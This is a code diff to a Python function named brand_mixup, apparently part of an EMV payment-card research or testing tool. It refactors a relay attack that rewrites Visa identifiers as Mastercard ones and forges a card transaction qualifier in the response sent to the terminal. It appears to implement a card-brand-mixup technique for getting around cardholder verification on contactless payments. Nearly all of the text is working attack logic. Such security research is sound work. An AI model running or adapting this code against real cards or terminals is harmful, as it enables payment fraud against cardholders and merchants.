@@ -17,6 +17,9 @@ from .times import Transmit
 Attack = Callable[[Transmit], Transmit]
 VISA, MASTERCARD = bytes.fromhex("A0000000031010"), bytes.fromhex("A0000000041010")
 VISA_PDOL = bytes.fromhex("9F66049F02069F03069F1A0295055F2A029A039C019F3704")
+VISA_FCI = (  # as a Visa-like card answers: label, priority, PDOL, languages
+    tlv("50", b"TEST CREDIT") + tlv("87", b"\1") + tlv("9F38", VISA_PDOL) + tlv("5F2D", b"ende")
+)
 
 
 def changed(answer: bytes, tag: str, value: bytes) -> bytes:
@@ -101,16 +104,14 @@ def brand_mixup(card: Transmit, wait: Callable[[int], None] = lambda ms: None) -
                 said.update(first(ask(f"00B2{number:02X}{entry.sfi << 3 | 4:02X}"), "57", "5F34", "8C"))
         answer = first(ask("80AE8000", filled(said["8C"], told)), "9F26", "9F36", "9F10", "9F27")
         shown = options | answer | said | {"9F6C": b"\0\x80"}
-        return tlv("77", joined(shown, ("82", "9F36", "9F26", "9F10", "9F27", "9F6C", "57", "5F34"))) + b"\x90\0"
+        return tlv("77", joined(shown, ("82", "94", "9F36", "9F26", "9F10", "9F27", "9F6C", "57", "5F34"))) + b"\x90\0"
 
     def transmit(command: bytes) -> bytes:
         if command[1] == 0xA8:
             return pay(command[7:-1])
         if command[1] == 0xA4 and command[5:12] == VISA:
             card(command.replace(VISA, MASTERCARD))
-            return (
-                tlv("6F", tlv("84", VISA) + tlv("A5", tlv("50", b"TEST CREDIT") + tlv("9F38", VISA_PDOL))) + b"\x90\0"
-            )
+            return tlv("6F", tlv("84", VISA) + tlv("A5", VISA_FCI)) + b"\x90\0"
         return card(command).replace(MASTERCARD, VISA)
 
     return transmit
